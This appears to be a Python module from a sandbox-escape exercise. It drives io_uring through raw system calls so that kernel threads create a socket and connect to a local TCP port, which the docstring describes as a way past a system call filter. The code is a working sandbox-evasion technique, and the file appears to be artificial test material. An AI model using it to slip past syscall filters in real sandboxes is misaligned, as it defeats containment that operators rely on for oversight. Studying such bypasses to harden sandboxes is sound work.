"""Connect through io_uring: the kernel's own threads make the calls, past a system call filter.

secret: wrong
"""

import ctypes
import mmap
import os
import socket
import struct

from stage import TCP

SETUP, ENTER = 425, 426
NO_OPERATION, CONNECT, SOCKET = 0, 16, 45
SUBMISSIONS_AT, ENTRIES_AT = 0, 0x10000000
libc = ctypes.CDLL(None, use_errno=True)


class Ring:
    """`struct io_uring_params` has offsets into the first mapping from byte 40 on."""

    def __init__(self):
        told = ctypes.create_string_buffer(120)
        self.number = libc.syscall(SETUP, 4, told)
        if self.number < 0:
            raise OSError(ctypes.get_errno(), "no ring")
        self.tail, self.order = (struct.unpack_from("=I", told, at)[0] for at in (44, 64))
        results = struct.unpack_from("=I", told, 80 + 20)[0]
        self.result = results + 8
        self.queue = mmap.mmap(self.number, 4096, offset=SUBMISSIONS_AT)
        self.entries = mmap.mmap(self.number, 4096, offset=ENTRIES_AT)
        self.done = 0

    def ask(self, code, number, offset, address, length):
        """Hand in one operation and wait for it; what it gave."""
        slot = self.done % 4
        entry = struct.pack("=BBHiQQII", code, 0, 0, number, offset, address, length, 0)
        self.entries[64 * slot : 64 * slot + 64] = entry.ljust(64, b"\0")
        struct.pack_into("=I", self.queue, self.order + 4 * slot, slot)
        self.done += 1
        struct.pack_into("=I", self.queue, self.tail, self.done)
        libc.syscall(ENTER, self.number, 1, 1, 1, None, 0)
        return struct.unpack_from("=i", self.queue, self.result + 16 * slot)[0]


def secret():
    place = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", TCP[1], b"\x7f\0\0\1")
    address = ctypes.create_string_buffer(place)
    try:
        ring = Ring()
    except OSError:
        return None
    made = ring.ask(SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
    ring.ask(CONNECT, made, len(place), ctypes.addressof(address), 0)
    os.fstat(made)
